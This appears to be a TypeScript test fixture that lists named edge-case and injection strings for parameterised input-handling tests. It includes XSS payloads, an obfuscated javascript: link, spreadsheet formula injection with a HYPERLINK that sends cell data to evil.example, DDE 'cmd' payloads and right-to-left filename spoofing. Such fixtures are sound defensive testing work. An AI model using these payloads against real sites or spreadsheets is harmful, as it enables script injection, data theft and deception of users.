/** Hostile and unusual texts, by name. */
export const hostileTexts = {
  markup: '<img src=x onerror="globalThis.ran=1"><script>globalThis.ran=1</script>',
  'markup that ends what is around it': `'"></title></textarea></script></style>--><svg onload=globalThis.ran=1>{{7*7}}\${7*7}]]>`,
  'a script as a link': 'javascript:globalThis.ran=1',
  'a script as a link, hidden': ' jav\tascript\n:globalThis.ran=1//https://example.com',
  'data as a link': 'data:text/html,<script>globalThis.ran=1</script>',
  formula: `=HYPERLINK("https://evil.example/?"&A1;"click")`,
  'formula behind a sign': `@SUM(1+1)*cmd|' /C calc'!A0`,
  'formula in wide letters': '＝1+1',
  'formula behind a space': '\u00A0\t+1+cmd|x',
  'turned direction': 'invoice\u202Efdp.exe\u202C \u2066left\u2067right',
  NUL: 'be\u0000fore',
  'lone surrogates': 'half \uD83D and \uDE00 other',
  'wall of marks': `Z${'\u0335\u0321\u0347'.repeat(60)}algo`,
  long: 'lorem ipsum '.repeat(8_534),
  'long without a space': 'W'.repeat(102_400),
  'both scripts with numbers': 'سعر iPhone 15 Pro هو 4,199.00 ر.ق (خصم 12%) — call +974 5550 1234',
  'a family': '👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 ✍🏿',
  'spaces of every kind': ' \t\n\r\u000B\u000C\u0085\u00A0\u1680\u2000\u2003\u200A\u2028\u2029\u202F\u205F\u3000\u200B\u2060\uFEFF',
  template: '%s %d {0} {{name}} $& $1 \\u0000 __proto__ constructor',
} as const satisfies Record<string, string>;

export type Hostile = keyof typeof hostileTexts;

/** The texts as cases of `it.each`. */
export const eachHostile = Object.entries(hostileTexts) as [Hostile, string][];
